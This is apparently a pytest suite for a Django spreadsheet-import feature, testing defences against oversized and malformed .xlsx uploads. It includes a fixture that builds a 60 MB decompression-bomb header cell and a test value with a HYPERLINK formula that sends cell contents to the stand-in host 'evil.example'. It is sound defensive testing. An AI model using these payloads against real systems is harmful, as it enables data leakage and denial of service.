"""What an upload can make the platform store and send: bounded, whatever the file holds.

The attack: a 66 KB .xlsx whose header cell is a 60 MB shared string, uploaded to
/imports/units/, used to fail with 125 MB of errors in the job row, and the job page and its
progress poll each answered 125 MB.
"""

import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from parkops.imports import framework
from parkops.imports.models import ImportJob
from parkops.imports.tests.helpers import xlsx

UNIT_HEADERS = ["楼栋编号", "楼层", "房号", "面积", "用途", "状态", "使用企业信用代码", "挂牌租金"]
ONE_MB = 1024 * 1024


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture(scope="module")
def huge_header_file() -> bytes:
    """The attack file: a 60 MB header cell. openpyxl cuts what it writes at 32,767
    characters, so the cell is grown in the saved sheet's XML by hand, as the attacker did."""
    plain = xlsx(["HEADER-TO-GROW", *UNIT_HEADERS[1:]], [["A", 1, "X-1", 50, "", "", "", ""]])
    out = io.BytesIO()
    grown = 0
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if b"HEADER-TO-GROW" in data:
                data = data.replace(b"HEADER-TO-GROW", b"A" * 60_000_000)
                grown += 1
            dst.writestr(item.filename, data, compresslevel=9)
    assert grown == 1
    return out.getvalue()


def upload(client, park, content: bytes, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        return client.post(
            "/imports/units/", {"park": park.pk, "file": SimpleUploadedFile("房源.xlsx", content)}
        )


def test_a_60_mb_header_cell_is_refused_and_the_job_stores_less_than_1_mb(
    client, world, media, huge_header_file, django_capture_on_commit_callbacks
):
    assert len(huge_header_file) < 200_000  # the attack file is small; it is the unpacking that is not
    client.force_login(world.admin)
    response = upload(client, world.alpha, huge_header_file, django_capture_on_commit_callbacks)
    job = ImportJob.objects.latest("pk")
    assert response.status_code == 302 and response["Location"] == job.get_absolute_url()
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and job.created_count == 0
    stored = len(json.dumps(job.errors, ensure_ascii=False).encode())
    assert stored < ONE_MB
    assert job.error_count == 1
    assert job.errors[0]["reason"] == (
        "第 1 行 A 列的表头有 60000000 个字符，超过上限 10000：请使用平台提供的模板"
    )

    page = client.get(job.get_absolute_url())
    poll = client.get(f"/imports/jobs/{job.pk}/status/")
    report = client.get(f"/imports/jobs/{job.pk}/errors.xlsx")
    for response in (page, poll, report):
        assert response.status_code == 200 and len(response.content) < ONE_MB
    assert "超过上限 10000" in page.content.decode()


def test_a_workbook_that_unpacks_beyond_the_limit_is_refused_on_the_upload_form(
    client, world, media, huge_header_file, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(framework, "MAX_UNPACKED_BYTES", 10 * ONE_MB)
    client.force_login(world.admin)
    response = upload(client, world.alpha, huge_header_file, django_capture_on_commit_callbacks)
    assert response.status_code == 200
    assert "文件解压后超过 10 MB" in response.content.decode()
    assert not ImportJob.objects.exists()
    # The job runner refuses it too (a file stored before the limit, or a lower limit since).
    result = framework.validate(
        framework.get_importer("units"), io.BytesIO(huge_header_file), by=world.admin, park=world.alpha
    )
    assert [e.reason for e in result.errors][0].startswith("文件解压后超过 10 MB")


def test_a_part_that_holds_more_than_it_declares_is_refused(world):
    good = xlsx(UNIT_HEADERS, [["A", 1, "X-1", 50, "", "", "", ""]]).getvalue()
    # Rewrite the declared uncompressed size of every part (local and central headers) to 1.
    data = bytearray(good)
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(sig, start)) != -1:
            data[at + offset : at + offset + 4] = (1).to_bytes(4, "little")
            start = at + 4
    with pytest.raises(framework.WorkbookRefused) as refused:
        framework.check_workbook(io.BytesIO(bytes(data)))
    assert "无法读取文件" in refused.value.message


def test_a_body_cell_over_the_limit_is_a_row_error_with_a_clipped_value(world):
    rows = [["A", 1, "X" * 20_000, 50, "", "", "", ""]]
    result = framework.validate(
        framework.get_importer("units"), xlsx(UNIT_HEADERS, rows), by=world.admin, park=world.alpha
    )
    [error] = result.errors
    assert (error.row, error.column) == (2, "房号")
    assert error.reason == "内容有 20000 个字符，超过单元格上限 10000 个字符"
    assert len(error.value) < 300 and error.value.endswith("（共 20000 个字符）")


def test_only_the_first_errors_are_kept_with_the_count_of_all(
    client, world, media, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(framework, "MAX_KEPT_ERRORS", 50)
    rows = [["A", 1, f"E-{i}", "x", "", "", "", ""] for i in range(120)]  # 120 bad areas
    client.force_login(world.admin)
    upload(client, world.alpha, xlsx(UNIT_HEADERS, rows).getvalue(), django_capture_on_commit_callbacks)
    job = ImportJob.objects.latest("pk")
    assert job.status == ImportJob.Status.FAILED
    assert job.error_count == 120 and len(job.errors) == 50
    assert [e["row"] for e in job.errors] == list(range(2, 52))
    page = client.get(job.get_absolute_url()).content.decode()
    assert "下面列出前 50 处错误，另有 70 处未列出" in page
    wb = load_workbook(io.BytesIO(client.get(f"/imports/jobs/{job.pk}/errors.xlsx").content))
    listing = wb["错误清单"]
    assert listing.max_row == 1 + 50 + 1
    assert listing.cell(listing.max_row, 4).value.startswith("另有 70 处错误未列出")


def test_a_sheet_claiming_thousands_of_columns_is_read_no_wider_than_its_header(world):
    headers = UNIT_HEADERS + [f"列{i}" for i in range(framework.MAX_COLUMNS)]
    with pytest.raises(framework.WorkbookRefused) as refused:
        framework.read_sheet(xlsx(headers, []))
    assert refused.value.message == "表头超过 200 列：请使用平台提供的模板，不要添加列"


def test_formula_text_from_the_upload_stays_text_in_the_error_workbook(world):
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")'
    wb = Workbook()
    ws = wb.active
    ws.title = "数据"
    ws.append(UNIT_HEADERS)
    ws.append(["A", 1, "X-1", 50, "", "", "", None])
    ws.cell(2, 8, evil).data_type = "s"  # a text cell, as Excel saves a typed '=…
    upload_file = io.BytesIO()
    wb.save(upload_file)
    importer = framework.get_importer("units")
    checked = framework.validate(importer, upload_file, by=world.admin, park=world.alpha)
    assert [(e.column, e.value) for e in checked.errors] == [("挂牌租金", evil)]

    report = load_workbook(io.BytesIO(framework.error_workbook(importer, upload_file, checked.errors)))
    data_cell = report["数据"].cell(2, 1 + len(UNIT_HEADERS))
    listing_cell = report["错误清单"].cell(2, 3)
    for cell in (data_cell, listing_cell):
        assert (cell.value, cell.data_type) == (evil, "s")
